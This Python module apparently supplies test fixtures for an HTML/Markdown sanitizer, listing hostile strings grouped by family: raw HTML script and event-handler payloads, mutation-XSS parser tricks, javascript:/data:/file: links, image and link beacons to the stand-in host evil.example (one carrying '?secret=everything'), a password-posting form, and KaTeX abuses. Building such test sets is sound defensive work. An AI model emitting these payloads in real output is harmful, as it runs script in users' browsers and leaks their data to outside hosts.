"""Texts that try to become live HTML, a script or a request to another site, as a model may write them or a user may
paste them.

Each names the site evil.example, or a global `harmed`. Written for this project after the usual families: raw HTML,
text that parsers repair into HTML (mutations), addresses of links and images, Markdown's corners, formulas and code.
"""

from __future__ import annotations

SITE = "evil.example"

HOSTILE = (
    # raw HTML
    "<script>harmed = 1</script>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=https://evil.example/b.png>",
    "<img src=x onerror='harmed = 1'>",
    "<svg onload='harmed = 1'><image href='https://evil.example/c.svg'></svg>",
    "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
    "<iframe src=https://evil.example/d></iframe>",
    "<object data=https://evil.example/e></object><embed src=https://evil.example/f>",
    "<video poster=https://evil.example/g src=https://evil.example/h autoplay></video>",
    "<audio src=https://evil.example/i autoplay onerror='harmed = 1'></audio>",
    "<link rel=stylesheet href=https://evil.example/j.css><link rel=prefetch href=https://evil.example/k>",
    "<link rel=dns-prefetch href=//dns.evil.example><link rel=preconnect href=https://tcp.evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/l'>",
    "<base href=https://evil.example/><a href=m>relative</a>",
    "<form action=https://evil.example/n><input name=password><button>Send</button></form>",
    "<style>@import url(https://evil.example/o.css); body { background: url(https://evil.example/p.png) }</style>",
    "<p style='background: url(https://evil.example/q.png)'>styled</p>",
    "<body onload='harmed = 1' background=https://evil.example/r.png>",
    "<details open ontoggle='harmed = 1'>open</details>",
    "<input autofocus onfocus='harmed = 1'>",
    "<template shadowrootmode=open><script>harmed = 1</script></template>",
    "<portal src=https://evil.example/s></portal><frameset onload='harmed = 1'>",
    # text that a parser repairs
    "<scr<script>ipt>harmed = 1</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=harmed=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=harmed=1>'>",
    "<svg></p><style><a id='</style><img src=x onerror=harmed=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harmed=1>",
    "<a href='javascript&colon;harmed=1'>entity</a> &lt;img src=x onerror=harmed=1&gt;",
    "<!--[if gte IE 4]><script>harmed = 1</script><![endif]-->",
    # addresses
    "[click](javascript:harmed=1)",
    "[click](JaVaScRiPt:harmed=1) [tab](java\tscript:harmed=1)",
    "[data](data:text/html,<script>opener.harmed=1</script>)",
    "[vb](vbscript:harmed) [file](file:///etc/passwd) [blob](blob:https://evil.example/t)",
    "<javascript:harmed=1>",
    "![image](https://evil.example/u.png)",
    "![image](https://evil.example/v.png 'title\" onload=\"harmed=1')",
    "![image][1]\n\n[1]: https://evil.example/w.png",
    "[![image](https://evil.example/x.png)](https://evil.example/y)",
    "![a](//evil.example/z.png) ![b](data:image/svg+xml,<svg/onload=harmed=1>)",
    "https://evil.example/auto and www.evil.example and someone@evil.example",
    "[name](https://evil.example/' onclick='harmed=1)",
    '[link](https://evil.example/?secret=everything "a title")',
    # Markdown's corners
    '``` " onload=harmed=1\ncode\n```',
    "```<img src=x onerror=harmed=1>\n<script>harmed = 1</script>\n```",
    "```html\n<img src=https://evil.example/code.png onerror=harmed=1>\n```",
    "| <img src=https://evil.example/cell.png> | b |\n|---|---|\n| <script>harmed=1</script> | [c](javascript:a) |",
    "- [ ] <img src=x onerror=harmed=1>\n- [x] ![i](https://evil.example/task.png)",
    "# <img src=x onerror=harmed=1>\n\n> <script>harmed = 1</script>",
    "Text[^1]\n\n[^1]: <img src=https://evil.example/note.png>",
    # formulas
    "$\\href{javascript:harmed=1}{x}$ and $\\url{https://evil.example/tex}$",
    "$$\\includegraphics{https://evil.example/tex.png}$$",
    "$\\htmlData{a=<img src=x onerror=harmed=1>}{x}$ $\\htmlStyle{background:url(https://evil.example/tex2.png)}{y}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "$<img src=x onerror=harmed=1>$",
)
